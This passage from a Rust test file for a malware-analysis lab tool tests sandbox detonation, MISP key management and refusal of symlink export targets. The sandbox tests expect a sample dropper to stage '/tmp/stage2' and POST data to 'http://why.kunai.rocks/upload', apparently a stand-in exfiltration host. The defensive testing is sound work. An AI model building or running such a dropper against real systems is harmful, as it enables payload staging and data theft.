/// loads the eBPF sensor; side by side they would only slow each other).
#[test]
fn sandbox_live_run_then_serve_submit_status_report() {
    if !require_root() {
        return;
    }
    sandbox_run_detonates_once_and_prints_the_summary();
    sandbox_serve_submit_wait_status_report();
}

fn sandbox_run_detonates_once_and_prints_the_summary() {
    let dir = tempfile::tempdir().unwrap();
    let sample = dir.path().join("dropper.sh");
    std::fs::write(&sample, SANDBOX_DROPPER).unwrap();
    let out_dir = dir.path().join("analysis");
    let (code, out, err) =
        run(&["sandbox", "run", sample.to_str().unwrap(), "--timeout", "20", "-o", out_dir.to_str().unwrap()]);
    assert_eq!(code, 0, "{out}\n{err}");
    for expected in [
        "score",
        "dropped_executed_from_tmp",
        "resolved why.kunai.rocks",
        "POST http://why.kunai.rocks/upload",
        "/tmp/stage2",
    ] {
        assert!(out.contains(expected), "{expected} missing: {out}");
    }
    let report = out_dir.join("reports/report.json");
    assert!(out.contains(&report.display().to_string()), "{out}");
    let r = ioclab_sandbox::Report::from_file(&report).unwrap();
    let sha = String::from_utf8(Command::new("sha256sum").arg(&sample).output().unwrap().stdout).unwrap();
    assert_eq!(r.target.file.unwrap().sha256.unwrap().to_string(), sha.split_whitespace().next().unwrap());
}

fn sandbox_serve_submit_wait_status_report() {
    use std::io::BufRead;
    let dir = tempfile::tempdir().unwrap();
    let storage = dir.path().join("storage");
    let port = std::net::TcpListener::bind("127.0.0.1:0").unwrap().local_addr().unwrap().port();
    let url = format!("http://127.0.0.1:{port}");
    let serve = || {
        Reaped(
            ioclab()
                .args([
                    "sandbox",
                    "serve",
                    "--listen",
                    &format!("127.0.0.1:{port}"),
                    "--storage",
                    storage.to_str().unwrap(),
                ])
                .stdout(Stdio::piped())
                .stderr(Stdio::null())
                .spawn()
                .unwrap(),
        )
    };
    let mut server = serve();
    // the token, printed once on first start
    let mut line = String::new();
    std::io::BufReader::new(server.stdout.take().unwrap()).read_line(&mut line).unwrap();
    let token = line.trim().rsplit(' ').next().unwrap().to_string();
    assert!(line.starts_with("API token (shown once;") && token.len() == 22, "{line}");
    let deadline = Instant::now() + Duration::from_secs(60);
    while std::net::TcpStream::connect(("127.0.0.1", port)).is_err() {
        assert!(Instant::now() < deadline, "sandbox serve did not listen");
        std::thread::sleep(Duration::from_millis(50));
    }
    let sample = dir.path().join("dropper.sh");
    std::fs::write(&sample, SANDBOX_DROPPER).unwrap();
    let client = |args: &[&str]| {
        let mut all = args.to_vec();
        all.extend(["--url", &url, "--token", &token]);
        run(&all)
    };
    let (code, out, err) = client(&["sandbox", "submit", sample.to_str().unwrap(), "--wait", "--timeout", "20"]);
    assert_eq!(code, 0, "{out}\n{err}");
    for expected in
        ["task 1:", "dropped_executed_from_tmp", "resolved why.kunai.rocks", "/tmp/stage2", "/tasks/report/1"]
    {
        assert!(out.contains(expected), "{expected} missing: {out}");
    }
    let (code, out, _) = client(&["sandbox", "status", "1"]);
    assert_eq!(code, 0);
    assert!(out.starts_with("task 1: reported (file dropper.sh)"), "{out}");
    let (code, out, _) = client(&["sandbox", "status"]);
    assert!(code == 0 && out.contains("1 reported"), "{out}");
    let (code, out, _) = client(&["sandbox", "report", "1"]);
    assert_eq!(code, 0);
    assert_eq!(ioclab_sandbox::Report::from_slice(out.as_bytes(), "stdout").unwrap().info.id, 1);
    let tarball = dir.path().join("1.tar.bz2");
    let (code, _, err) = client(&["sandbox", "report", "1", "--all", "-o", tarball.to_str().unwrap()]);
    assert_eq!(code, 0, "{err}");
    let listing = Command::new("tar").args(["tjf", tarball.to_str().unwrap()]).output().unwrap();
    let listing = String::from_utf8_lossy(&listing.stdout);
    assert!(listing.contains("reports/report.json") && listing.contains("binary"), "{listing}");
    // a wrong token: Cuckoo's 401, said plainly
    let (code, _, err) = run(&["sandbox", "status", "1", "--url", &url, "--token", "wrong"]);
    assert_ne!(code, 0);
    assert!(err.contains("HTTP 401") && err.contains("Bearer"), "{err}");
    // a server killed mid-detonation: the task fails with the reason at the next start, nothing of it runs on
    let sleeper = dir.path().join("sleeper.sh");
    std::fs::write(&sleeper, "#!/bin/sh\nsleep 7793\n").unwrap();
    let (code, out, err) = client(&["sandbox", "submit", sleeper.to_str().unwrap(), "--timeout", "120"]);
    assert_eq!((code, out.trim()), (0, "2"), "{err}");
    let deadline = Instant::now() + Duration::from_secs(60);
    loop {
        let (_, out, _) = client(&["sandbox", "status", "2"]);
        if out.starts_with("task 2: running") && !sandbox_processes_with("sleep 7793").is_empty() {
            break;
        }
        assert!(Instant::now() < deadline, "task 2 never ran: {out}");
        std::thread::sleep(Duration::from_millis(100));
    }
    // a second start keeps the token and does not print it again
    drop(server); // SIGKILL
    let mut server = serve();
    let mut rest = String::new();
    let stdout = server.stdout.take().unwrap();
    let reader = std::thread::spawn(move || {
        let mut s = String::new();
        let _ = std::io::BufReader::new(stdout).read_line(&mut s);
        s
    });
    let deadline = Instant::now() + Duration::from_secs(60);
    while std::net::TcpStream::connect(("127.0.0.1", port)).is_err() {
        assert!(Instant::now() < deadline, "sandbox serve did not listen again");
        std::thread::sleep(Duration::from_millis(50));
    }
    let (code, out, _) = client(&["sandbox", "status", "1"]);
    assert!(code == 0 && out.contains("reported"), "{out}");
    let (code, out, _) = client(&["sandbox", "status", "2"]);
    assert!(code == 0 && out.starts_with("task 2: failed_analysis"), "{out}");
    assert!(out.contains("the server stopped during the analysis"), "{out}");
    assert!(sandbox_processes_with("sleep 7793").is_empty(), "the killed server's task still runs");
    drop(server);
    rest.push_str(&reader.join().unwrap());
    assert!(!rest.contains(&token), "the token was printed again: {rest}");
}

/// Pids of the processes whose command line contains `marker`.
fn sandbox_processes_with(marker: &str) -> Vec<String> {
    let out = Command::new("pgrep").args(["-f", marker]).output().unwrap();
    String::from_utf8_lossy(&out.stdout).lines().map(str::to_string).collect()
}

/// The HTTP status of GET `path` with `key`.
fn misp_get_status(url: &str, key: &str, path: &str) -> String {
    let out = Command::new("curl")
        .args(["-s", "-o", "/dev/null", "-w", "%{http_code}", "-H", &format!("Authorization: {key}")])
        .arg(format!("{url}{path}"))
        .output()
        .expect("curl (installed by scripts/setup.sh)");
    String::from_utf8_lossy(&out.stdout).into_owned()
}

/// `keys create` made admins by default and, run again for an e-mail,
/// changed the role of all its keys; keys could not be listed or revoked.
#[test]
fn misp_keys_default_to_user_keep_roles_list_and_revoke() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("misp.db");
    let dbs = db.to_str().unwrap();
    let first = misp_key(&db, "trainee@lab.example", &[]);
    let list = || {
        let (code, out, err) = run(&["misp", "keys", "list", "--db", dbs]);
        assert_eq!(code, 0, "{err}");
        out
    };
    let out = list();
    let row = out.lines().find(|l| l.contains("trainee@lab.example")).unwrap_or_else(|| panic!("{out}"));
    assert!(row.contains(" user ") && row.contains(" ioclab ") && row.contains(&first[36..]), "{out}");

    // another role for the same e-mail: refused, the first key keeps its role
    let (code, out, err) =
        run(&["misp", "keys", "create", "--email", "trainee@lab.example", "--role", "admin", "--db", dbs]);
    assert_eq!(code, 1, "{out}");
    assert!(err.contains("has the role user") && err.contains("--change-role"), "{err}");
    assert_eq!(list().matches(" user ").count(), 1, "no new key, no new role");
    // the same role: a second key
    let second = misp_key(&db, "trainee@lab.example", &[]);
    assert_eq!(list().matches(" user ").count(), 2);
    // asked explicitly: every key of the user changes
    misp_key(&db, "trainee@lab.example", &["--role", "publisher", "--change-role"]);
    assert_eq!(list().matches(" publisher ").count(), 3, "{}", list());

    // revoke the first: it stops working, the second still works
    let out = list();
    let shown = format!("...{}", &first[36..]);
    let id = out.lines().find(|l| l.contains(&shown)).unwrap().split_whitespace().next().unwrap().to_string();
    let (code, _, err) = run(&["misp", "keys", "revoke", &id, "--db", dbs]);
    assert_eq!(code, 0, "{err}");
    assert!(err.contains(&format!("revoked key {id}")), "{err}");
    assert!(!list().contains(&shown));
    let (_server, url) = misp_serve(&db);
    assert_eq!(misp_get_status(&url, &first, "/users/view/me"), "403");
    assert_eq!(misp_get_status(&url, &second, "/users/view/me"), "200");
    let (code, _, err) = run(&["misp", "keys", "revoke", &id, "--db", dbs]);
    assert_eq!(code, 1);
    assert!(err.contains("no key with id"), "{err}");
}

/// `-o` named a symlink, FIFO or device: it was replaced by a regular file.
/// Now such targets are refused before anything is fetched, and `-o -` or
/// `/dev/stdout` write to standard output in place.
#[test]
fn misp_export_refuses_special_targets_and_writes_stdout_in_place() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("misp.db");
    let key = misp_key(&db, "trainer@lab.example", &["--role", "publisher"]);
    let (_server, url) = misp_serve(&db);
    let event = serde_json::json!({"Event": {"info": "t", "published": true,
        "Attribute": [{"type": "domain", "value": "out.example", "to_ids": true}]}});
    misp_post(&url, &key, "/events/add", &event.to_string());
    let cfg = export_config(dir.path(), &url, &key);
    let export = |out: &str| run(&["misp", "export", "-c", cfg.to_str().unwrap(), "-o", out, "--no-warninglists"]);

    let victim = dir.path().join("victim");
    std::fs::write(&victim, "theirs\n").unwrap();
    let link = dir.path().join("iocs.json");
    std::os::unix::fs::symlink(&victim, &link).unwrap();
    let (code, _, err) = export(link.to_str().unwrap());
    assert_eq!(code, 1);
    assert!(err.contains("symbolic link") && err.contains("iocs.json"), "{err}");
    assert!(std::fs::symlink_metadata(&link).unwrap().file_type().is_symlink());
    assert_eq!(std::fs::read_to_string(&victim).unwrap(), "theirs\n");

    for stdout in ["-", "/dev/stdout"] {
        let (code, out, err) = export(stdout);
        assert_eq!(code, 0, "{err}");
        assert!(out.contains("\"out.example\""), "{stdout}: {out}");
    }
}
